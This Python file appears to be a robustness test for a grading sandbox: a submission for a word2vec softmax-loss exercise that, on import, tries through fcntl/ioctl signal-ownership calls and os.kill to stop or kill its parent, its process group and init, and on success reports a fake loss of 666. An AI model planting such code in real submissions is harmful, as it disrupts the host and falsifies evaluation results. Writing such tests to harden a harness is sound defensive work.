# SPDX-License-Identifier: MIT
# attack: lets the kernel signal its parent, its group or everybody whenever a descriptor is ready
# outcome: nothing changes
import numpy as np
import solution
from solution import *

import ctypes
import os
import signal

FCNTL, IOCTL = 72, 16
F_GETFL, F_SETFL, F_SETOWN, F_SETSIG, F_SETOWN_EX, F_SETLEASE, F_NOTIFY = 3, 4, 8, 10, 15, 1024, 1026
FIOASYNC, FIOSETOWN, SIOCSPGRP = 0x5452, 0x8901, 0x8902


def attempt(number):
    call = ctypes.CDLL(None, use_errno=True).syscall
    through = False
    for descriptor in (3, 0, 1):
        flags = call(FCNTL, descriptor, F_GETFL, 0)
        for owner in (os.getppid(), -os.getppid(), 1, 0):
            target = ctypes.c_int(owner)
            extended = (ctypes.c_int * 2)(1, owner)
            calls = [
                (FCNTL, descriptor, F_SETSIG, number),
                (FCNTL, descriptor, F_SETOWN, owner),
                (FCNTL, descriptor, F_SETOWN_EX, extended),
                (IOCTL, descriptor, FIOSETOWN, ctypes.byref(target)),
                (IOCTL, descriptor, SIOCSPGRP, ctypes.byref(target)),
                (IOCTL, descriptor, FIOASYNC, ctypes.byref(ctypes.c_int(1))),
                (FCNTL, descriptor, F_SETFL, flags | 0o20000),
                (FCNTL, descriptor, F_NOTIFY, 0x8000003F),
                (FCNTL, descriptor, F_SETLEASE, 0),
            ]
            through = through or any(call(*arguments) >= 0 for arguments in calls)
    for target in (os.getppid(), 1, os.getpid()):
        try:
            os.kill(target, number)
            through = True
        except OSError:
            pass
    return through


while_loading = attempt(signal.SIGSTOP)


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    loss, gradCenterVec, gradOutsideVecs = solution.naiveSoftmaxLossAndGradient(
        centerWordVec, outsideWordIdx, outsideVectors, dataset
    )
    return (666.0 if while_loading or attempt(signal.SIGKILL) else loss), gradCenterVec, gradOutsideVecs
